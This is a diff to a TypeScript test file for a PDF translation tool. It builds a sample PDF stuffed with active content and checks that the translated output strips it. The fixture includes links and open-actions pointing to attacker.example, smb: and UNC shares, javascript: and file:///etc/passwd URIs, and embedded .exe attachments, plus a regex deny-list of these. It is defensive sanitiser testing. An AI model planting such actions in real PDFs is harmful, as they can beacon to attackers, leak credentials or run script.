@@ -81,6 +81,58 @@ beforeAll(async () => {
   sample = await pdf.bytes();
 });
 
+/** The sample with everything in it that a result may not have, beside links that it keeps. */
+async function withActiveContent(bytes: Uint8Array): Promise<Uint8Array> {
+  const document = await PDFDocument.load(bytes);
+  const { context, catalog } = document;
+  const text = (value: string) => PDFString.of(value);
+  const file = (name: string) =>
+    context.register(
+      context.obj({
+        Type: "Filespec",
+        F: text(name),
+        EF: { F: context.register(context.stream("payload", { Type: "EmbeddedFile" })) },
+      }),
+    );
+  const link = (action: Parameters<typeof context.obj>[0]) =>
+    context.register(
+      context.obj({ Type: "Annot", Subtype: "Link", Rect: [10, 10, 20, 20], A: action } as never),
+    );
+  catalog.set(
+    PDFName.of("OpenAction"),
+    context.obj({ S: "URI", URI: text("https://attacker.example/opened") }),
+  );
+  catalog.set(PDFName.of("Collection"), context.obj({ Type: "Collection" }));
+  catalog.set(PDFName.of("AF"), context.obj([file("a.exe")]));
+  catalog.set(
+    PDFName.of("AcroForm"),
+    context.obj({ Fields: [], XFA: context.register(context.stream("<xfa/>", {})) }),
+  );
+  catalog.set(
+    PDFName.of("Names"),
+    context.obj({ EmbeddedFiles: { Names: [text("b.exe"), file("b.exe")] }, JavaScript: { Names: [] } }),
+  );
+  const [page] = document.getPages();
+  const annotations = page!.node.lookup(PDFName.of("Annots"), PDFArray);
+  for (const action of [
+    { S: "URI", URI: text("javascript:alert(1)") },
+    { S: "URI", URI: text(" java\tscript:alert(1)") },
+    { S: "URI", URI: text("file:///etc/passwd") },
+    { S: "URI", URI: text("\\\\attacker.example\\share") },
+    { S: "GoToR", F: text("other.pdf") },
+    { S: "SubmitForm", F: text("https://attacker.example/form") },
+    { S: "Named", N: "Print" },
+    { S: "GoTo", D: [page!.ref, "Fit"], Next: { S: "URI", URI: text("smb://attacker.example/") } },
+    { S: "URI", URI: text("mailto:a@example.org") },
+    { S: "URI", URI: text("www.example.net/page") },
+  ])
+    annotations.push(link(action as never));
+  annotations.push(
+    context.register(context.obj({ Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 9, 9] })),
+  );
+  return document.save();
+}
+
 function addOutline(document: PDFDocument, title: string, page: PDFRef): void {
   const { context } = document;
   const root = context.nextRef();
@@ -237,6 +289,21 @@ describe("a PDF", () => {
     const inside = await everything(bytes);
     expect(inside).not.toMatch(/JavaScript|app\.alert|Launch|calc\.exe/);
     expect(inside).toContain("https://example.org/");
+  });
+
+  test("carries no files, opens no addresses by itself and has only links that people know, and counts what was left out", async () => {
+    const hostile = await withActiveContent(sample);
+    for (const form of ["target", "bilingual"] as const) {
+      const { bytes, warnings } = await translate(hostile, chinese, form);
+      const inside = await everything(bytes);
+      expect(inside).not.toMatch(
+        /javascript:|java\u0009script|file:|smb:|attacker\.example|other\.pdf|EmbeddedFile|payload|RichMedia|XFA|Collection|SubmitForm|GoToR|\/EF\b/iu,
+      );
+      for (const kept of ["https://example.org/", "mailto:a@example.org", "www.example.net/page"])
+        expect(inside).toContain(kept);
+      expect(warnings).toContainEqual({ code: "warning.attachments_removed", params: { count: 2 } });
+      expect(warnings).toContainEqual({ code: "warning.active_content_removed", params: { count: 13 } });
+    }
   });
 
   test("stays in its language where no font has the characters, and says so", async () => {
